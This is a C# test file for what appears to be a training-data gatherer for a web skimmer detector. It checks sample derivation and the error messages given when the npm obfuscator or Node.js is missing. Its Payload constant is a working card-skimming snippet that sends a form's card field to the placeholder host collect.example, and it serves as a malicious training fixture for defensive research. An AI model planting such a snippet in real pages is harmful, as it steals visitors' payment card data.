using PageShield.Training;

namespace PageShield.Tests.Training;

public sealed class TrainerTests
{
    private const string Library =
        "function total(items) { var sum = 0; for (var i = 0; i < items.length; i++) { sum += items[i].price * items[i].count; } return sum; }\n";
    private const string Payload = "document.forms[0].addEventListener('submit', function () { new Image().src = 'https://collect.example/?card=' + document.forms[0].elements.card.value; });";

    [Fact]
    public async Task A_lock_file_without_a_variant_maker_gives_insertions_only()
    {
        using var folder = Material();

        var rows = await GatherAsync(folder);

        Assert.Equal([false, false, false, true], rows.Select(row => row.IsDerived));
        Assert.Equal(new Derivation(null, IsInserted: true), rows[3].Sample.Derivation);
        Assert.Equal(rows[0].Sample.Family, rows[3].Sample.Family);
    }

    [Fact]
    public async Task A_variant_maker_without_its_packages_says_what_to_run()
    {
        using var folder = Material();
        folder.Write("npm/derive.mjs", "");

        var error = await Assert.ThrowsAsync<VariantsUnavailableException>(() => GatherAsync(folder));

        Assert.Contains($"run `npm ci` in {Path.Combine(folder.Path, "npm")}", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_variant_maker_without_node_says_what_to_install()
    {
        using var folder = Material();
        folder.Write("npm/derive.mjs", "");
        folder.Write("npm/node_modules/javascript-obfuscator/package.json", "{}");

        var error = await Assert.ThrowsAsync<VariantsUnavailableException>(
            () => VariantMaker.FindAsync(Path.Combine(folder.Path, "npm", "package-lock.json"), Path.Combine(folder.Path, "no-such-node"),
                TestContext.Current.CancellationToken));

        Assert.Contains("Node.js 20 or newer", error.Message, StringComparison.Ordinal);
        Assert.Contains("npm ci", error.Message, StringComparison.Ordinal);
    }

    private static TemporaryFolder Material()
    {
        var folder = new TemporaryFolder();
        folder.Write("malicious/skimmer.js", Payload);
        folder.Write("benign/cart.js", Library);
        folder.Write("npm/package-lock.json",
            """{ "packages": { "": { "dependencies": { "totals": "1.0.0" }, "devDependencies": { "minifier": "1.0.0" } } } }""");
        folder.Write("npm/node_modules/totals/index.js", string.Concat(Enumerable.Repeat(Library, 3)));
        folder.Write("npm/node_modules/minifier/index.js", string.Concat(Enumerable.Repeat(Library, 4)));
        return folder;
    }

    private static Task<IReadOnlyList<TrainingRow>> GatherAsync(TemporaryFolder folder) => Trainer.GatherAsync(
        Path.Combine(folder.Path, "malicious"), Path.Combine(folder.Path, "benign"), Path.Combine(folder.Path, "npm", "package-lock.json"), null, 1,
        1, TestContext.Current.CancellationToken);
}
